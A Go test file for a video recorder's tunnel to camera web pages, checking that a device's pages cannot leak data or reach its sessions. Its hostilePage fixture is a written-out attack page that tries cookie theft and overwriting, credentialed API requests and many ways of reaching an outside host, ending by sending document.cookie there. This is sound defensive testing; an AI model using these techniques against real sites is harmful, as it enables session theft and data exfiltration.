package ui_test

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/stockade-nvr/stockade/internal/pinned"
	"github.com/stockade-nvr/stockade/ui"
)

// webCamera is a device with pages of its own, on loopback.
type webCamera struct {
	*httptest.Server
	at netip.AddrPort

	mu      sync.Mutex // guards what follows
	reports map[string]string
	seen    []*http.Request // without bodies
}

func startWebCamera(t *testing.T, handle func(c *webCamera, w http.ResponseWriter, r *http.Request)) *webCamera {
	t.Helper()
	return startWebCameraOn(t, false, handle)
}

// startWebCameraOn starts a device, on HTTPS if asked, with a certificate of its own.
func startWebCameraOn(t *testing.T, secure bool, handle func(c *webCamera, w http.ResponseWriter, r *http.Request)) *webCamera {
	t.Helper()
	c := &webCamera{reports: map[string]string{}}
	c.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.seen = append(c.seen, r)
		c.mu.Unlock()
		if r.URL.Path == "/report" { // a page says how something went
			c.mu.Lock()
			for k, v := range r.URL.Query() {
				c.reports[k] = v[0]
			}
			c.mu.Unlock()
			return
		}
		handle(c, w, r)
	}))
	if secure {
		c.StartTLS()
	} else {
		c.Start()
	}
	t.Cleanup(c.Close)
	c.at = netip.MustParseAddrPort(c.Listener.Addr().String())
	return c
}

// reported waits until a page has reported something.
func (c *webCamera) reported(t *testing.T, name string) string {
	t.Helper()
	for deadline := time.Now().Add(patience); ; time.Sleep(20 * time.Millisecond) {
		c.mu.Lock()
		got, ok := c.reports[name]
		all := fmt.Sprint(c.reports)
		c.mu.Unlock()
		if ok {
			return got
		}
		if time.Now().After(deadline) {
			t.Fatalf("the page did not report %s, only %.1500s", name, all)
		}
	}
}

// leaks gives what a device was told that it must not know.
func (c *webCamera) leaks(site *accountSite) (bad []string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	_, port, _ := net.SplitHostPort(site.tunnel.Addr().String())
	_, page, _ := strings.Cut(site.base, "://")
	for _, r := range c.seen {
		for name, values := range r.Header {
			for _, v := range values {
				if strings.Contains(v, ":"+port) || strings.Contains(v, page) || strings.HasPrefix(name, "Sec-Fetch") || strings.HasPrefix(name, "X-Forwarded") ||
					name == "Cookie" && (strings.Contains(v, "nvr")) {
					bad = append(bad, r.URL.Path+" "+name+": "+v)
				}
			}
		}
		if r.Host != c.at.String() {
			bad = append(bad, r.URL.Path+" Host: "+r.Host)
		}
	}
	return bad
}

// outside counts what reaches a host that no page of a device may reach, and
// notes what was asked there.
type outside struct {
	at           string
	tcp, udp     atomic.Int64
	mu           sync.Mutex // guards paths
	paths        []string
	stunListener net.PacketConn
}

func startOutside(t *testing.T) *outside {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.3:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{at: ln.Addr().String()}
	if o.stunListener, err = net.ListenPacket("udp", o.at); err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{
		ReadHeaderTimeout: 5 * time.Second,
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				o.tcp.Add(1)
			}
		},
		Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.paths = append(o.paths, r.URL.Path)
		}),
	}
	go func() { _ = srv.Serve(ln) }() // until it is closed
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := o.stunListener.ReadFrom(buf); err != nil {
				return
			}
			o.udp.Add(1)
		}
	}()
	t.Cleanup(func() { srv.Close(); o.stunListener.Close() })
	return o
}

func (o *outside) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return fmt.Sprintf("%d connections, %d datagrams, asked for %v", o.tcp.Load(), o.udp.Load(), o.paths)
}

// asked gives the paths that were asked for.
func (o *outside) asked() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.paths)
}

// reset forgets what was counted.
func (o *outside) reset() {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.tcp.Store(0)
	o.udp.Store(0)
	o.paths = nil
}

// hostilePage tries whatever reaches an outside, Stockade's page and its session.
// %[1]s is the outside, %[2]s Stockade's origin.
const hostilePage = `<!doctype html><title>camera</title>
<link rel=preconnect href="http://%[1]s/"><link rel=dns-prefetch href="http://%[1]s/"><link rel=prefetch href="http://%[1]s/prefetch">
<link rel=preload as=script href="http://%[1]s/preload"><link rel=modulepreload href="http://%[1]s/modulepreload"><link rel=stylesheet href="http://%[1]s/css">
<link rel=icon href="http://%[1]s/icon"><link rel=manifest href="http://%[1]s/manifest">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://%[1]s/speculated"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["http://%[1]s/prerendered"],"eagerness":"immediate"}]}</script>
<img src="http://%[1]s/img"><iframe src="http://%[1]s/iframe"></iframe><object data="http://%[1]s/object"></object><embed src="http://%[1]s/embed">
<video src="http://%[1]s/video"></video><script src="http://%[1]s/script"></script>
<style>@import "http://%[1]s/import"; body { background: url("http://%[1]s/background") }</style>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://%[1]s/metarefresh'><img src=http://%[1]s/nestedimg>"></iframe>
<form id=out action="http://%[1]s/form" method=post target=sink><input name=a value=b></form><iframe name=sink></iframe>
<iframe srcdoc="<a id=d href='http://%[1]s/download' download>x</a><script>document.getElementById('d').click()</script>"></iframe>
<a id=blank target=_blank href="http://%[1]s/blank">x</a><a id=top target=_top href="http://%[1]s/top">x</a>
<a id=ping href="/report?clicked=1" ping="http://%[1]s/ping" target=sink>x</a>
<script>
const report = (name, value) => fetch('/report?' + name + '=' + encodeURIComponent(value));
const attempt = async (name, f) => { let got; try { got = 'OPEN ' + await f(); } catch (e) { got = 'refused ' + e.name; } await report(name, got); };
(async () => {
	await attempt('cookie', () => { if (document.cookie === '') throw new Error('none'); return document.cookie; });
	await attempt('evict', () => { for (let i = 0; i < 400; i++) { document.cookie = 'c' + i + '=' + 'v'.repeat(10); document.cookie = 'c' + i + '=; max-age=0'; } document.cookie = 'flood=1; max-age=0'; throw new Error('tried'); });
	await attempt('set', () => { document.cookie = '__Host-nvr=evil; secure; path=/'; document.cookie = '__Host-nvr=; secure; path=/; max-age=0'; throw new Error('tried'); });
	await attempt('fetch', () => fetch('http://%[1]s/fetch'));
	await attempt('nocors', () => fetch('http://%[1]s/nocors', {mode: 'no-cors'}));
	await attempt('beacon', () => { navigator.sendBeacon('http://%[1]s/beacon', 'x'); throw new Error('tried'); });
	await attempt('websocket', () => new Promise((yes, no) => { const s = new WebSocket('ws://%[1]s/websocket'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }));
	await attempt('eventsource', () => new Promise((yes, no) => { const s = new EventSource('http://%[1]s/eventsource'); s.onopen = yes; s.onerror = () => { s.close(); no(new Error('closed')); }; }));
	await attempt('api', () => fetch('%[2]s/api/v1/users', {credentials: 'include', mode: 'no-cors'}));
	await attempt('apiframe', () => new Promise((yes, no) => { const f = document.createElement('iframe'); f.src = '%[2]s/'; f.onload = () => { try { f.contentDocument ? no(new Error('empty')) : no(new Error('opaque')); } catch (e) { no(e); } }; document.body.append(f); }));
	await attempt('parent', () => parent.document.title);
	await attempt('opener', () => { if (!window.opener) throw new Error('none'); return 'opener'; });
	await attempt('open', () => { if (!window.open('http://%[1]s/open')) throw new Error('none'); return 'window'; });
	await attempt('serviceworker', () => navigator.serviceWorker.register('/worker.js'));
	await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://%[1]s/worker').then(() => postMessage('open'), () => postMessage(''))"]))); w.onmessage = (e) => e.data ? yes(e.data) : no(new Error('refused')); w.onerror = no; }));
	await attempt('rtc', async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:%[1]s'}]}); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 500)); });
	for (const id of ['blank', 'top', 'ping']) await attempt(id, () => { document.getElementById(id).click(); throw new Error('tried'); });
	await attempt('form', () => { document.getElementById('out').submit(); throw new Error('tried'); });
	await attempt('toplocation', () => { top.location = 'http://%[1]s/toplocation'; throw new Error('tried'); });
	const late = document.createElement('link'); late.rel = 'preconnect'; late.href = 'http://%[1]s/'; document.head.append(late);
	parent.postMessage({close: true, url: 'http://%[1]s/message'}, '*');
	await report('done', 1);
	setTimeout(() => location.href = 'http://%[1]s/self?' + document.cookie, 300);
})();
</script>`

// peerPage names a peer itself, without a server to ask for one: the browser checks
// whether it is there, and says a word there that the page chose. %s is the outside.
const peerPage = `<!doctype html><title>camera</title><script>(async () => {
	const [host, port] = '%s'.split(':'), c = new RTCPeerConnection();
	c.createDataChannel('x');
	await c.setLocalDescription(await c.createOffer());
	await c.setRemoteDescription({type: 'answer', sdp: ['v=0', 'o=- 1 1 IN IP4 0.0.0.0', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'a=ice-lite',
		'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=mid:0', 'a=ice-ufrag:seen', 'a=ice-pwd:' + 'p'.repeat(24),
		'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'), 'a=setup:passive', 'a=sctp-port:5000',
		'a=candidate:1 1 udp 2113937151 ' + host + ' ' + port + ' typ host', ''].join('\r\n')});
})().catch((e) => fetch('/report?peer=' + encodeURIComponent(e)));</script>`

// friendlyPage uses what real firmware uses. %s is the device's own origin.
const friendlyPage = `<!doctype html><title>camera</title><link rel=stylesheet href="style.css"><img id=absolute src="%[1]s/still.png"><iframe src="nested.html"></iframe>
<form id=settings action="/set" method=post target=sink><input name=focus value=12></form><iframe name=sink></iframe>
<script>
const report = (name, value) => fetch('/report?' + name + '=' + encodeURIComponent(value));
onload = async () => {
	await report('image', document.getElementById('absolute').naturalWidth);
	await report('style', getComputedStyle(document.body).color);
	document.cookie = 'language=ko'; localStorage.setItem('tab', 'lens'); sessionStorage.setItem('a', localStorage.getItem('tab'));
	const xhr = new XMLHttpRequest(); xhr.open('GET', 'data.json'); xhr.onload = () => report('xhr', xhr.responseText); xhr.send();
	await fetch('%[1]s/absolute.json').then(r => r.text()).then(t => report('absolute', t), e => report('absolute', e));
	const body = new FormData(); body.append('firmware', new Blob([new Uint8Array(300000)]), 'fw.bin');
	await fetch('/upgrade', {method: 'POST', body}).then(r => r.text()).then(t => report('upload', t));
	const socket = new WebSocket('ws' + location.protocol.slice(4) + '//' + location.host + '/socket'); socket.onmessage = (e) => report('socket', e.data); socket.onopen = () => socket.send('hello');
	document.getElementById('settings').submit();
};
</script>`

// png is one pixel.
var png, _ = hex.DecodeString("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082")

// friendly serves friendlyPage to who answers its digest challenge.
func friendly(t *testing.T) func(c *webCamera, w http.ResponseWriter, r *http.Request) {
	t.Helper()
	return func(c *webCamera, w http.ResponseWriter, r *http.Request) {
		if !digested(r, "viewer", "sesame") {
			w.Header().Set("WWW-Authenticate", `Digest realm="cam", nonce="abc", qop="auth", algorithm=MD5`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		switch r.URL.Path {
		case "/":
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "of-the-device", Path: "/"})
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, friendlyPage, c.URL)
		case "/style.css":
			w.Header().Set("Content-Type", "text/css")
			_, _ = io.WriteString(w, "body { color: rgb(1, 2, 3) }")
		case "/still.png":
			w.Header().Set("Content-Type", "image/png")
			_, _ = w.Write(png)
		case "/nested.html":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, `<script>fetch('/report?nested=' + (parent.document.title === 'camera'))</script>`)
		case "/data.json", "/absolute.json":
			sid, _ := r.Cookie("sid")
			language, _ := r.Cookie("language")
			fmt.Fprintf(w, "%v %v", sid, language)
		case "/upgrade":
			n, _ := io.Copy(io.Discard, r.Body)
			fmt.Fprint(w, n > 300_000)
		case "/set":
			http.Redirect(w, r, c.URL+"/saved?"+r.FormValue("focus"), http.StatusFound)
		case "/saved":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<script>fetch('/report?form=%s from ' + (document.referrer ? new URL(document.referrer).pathname : 'nowhere'))</script>`, r.URL.RawQuery)
		case "/socket":
			conn, err := websocket.Accept(w, r, nil) // refuses a foreign Origin
			if err != nil {
				return
			}
			defer conn.CloseNow()
			kind, text, err := conn.Read(r.Context())
			if err == nil {
				_ = conn.Write(r.Context(), kind, append(text, " back"...))
				_, _, _ = conn.Read(r.Context()) // until it is closed
			}
		default:
			http.NotFound(w, r)
		}
	}
}

var digestPart = regexp.MustCompile(`(\w+)="?([^",]*)"?`)

// digested checks a digest answer with qop=auth.
func digested(r *http.Request, name, password string) bool {
	part := map[string]string{}
	for _, m := range digestPart.FindAllStringSubmatch(r.Header.Get("Authorization"), -1) {
		part[m[1]] = m[2]
	}
	sum := func(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }
	want := sum(strings.Join([]string{
		sum(name + ":cam:" + password), "abc", part["nc"], part["cnonce"], "auth", sum(r.Method + ":" + r.URL.RequestURI()),
	}, ":"))
	return part["response"] == want
}

// withTunnel serves a site with accounts and a listener at an address for
// devices' own pages, whose device dev-gate is the camera.
func withTunnel(t *testing.T, c *webCamera, at string, more ...func(*ui.Options)) *accountSite {
	t.Helper()
	s := smallSite()
	ln, err := net.Listen("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	later := !ln.Addr().(*net.TCPAddr).IP.IsLoopback() // for serveTLS
	if !later {
		s.tunnel = ln
	}
	reach := func(device string) (ui.Reached, bool, error) {
		return ui.Reached{Peer: pinned.Peer{Address: c.at.Addr()}, Username: "viewer", Password: "sesame"}, device == "dev-gate", nil
	}
	s.reach = func(o *ui.Options) {
		o.Tunnel = ui.Tunnel{
			Port: uint16(ln.Addr().(*net.TCPAddr).Port), Reach: reach,
			Enforced: func() bool { return o.Containment().State == "enforced" },
		}
		for _, f := range more {
			f(o)
		}
	}
	a := s.withAccounts(t)
	a.tunnel = ln
	return a
}

// tunnelBody asks for a tunnel to the camera.
func tunnelBody(c *webCamera) string {
	return said(map[string]any{"why": "focus the lens", "port": int(c.at.Port()), "tls": strings.HasPrefix(c.URL, "https")})
}

// sha gives a SHA-256 as the audit has it.
func sha(b []byte) string { h := sha256.Sum256(b); return hex.EncodeToString(h[:]) }

// escape writes a value into a query.
func escape(s string) string { return url.QueryEscape(s) }
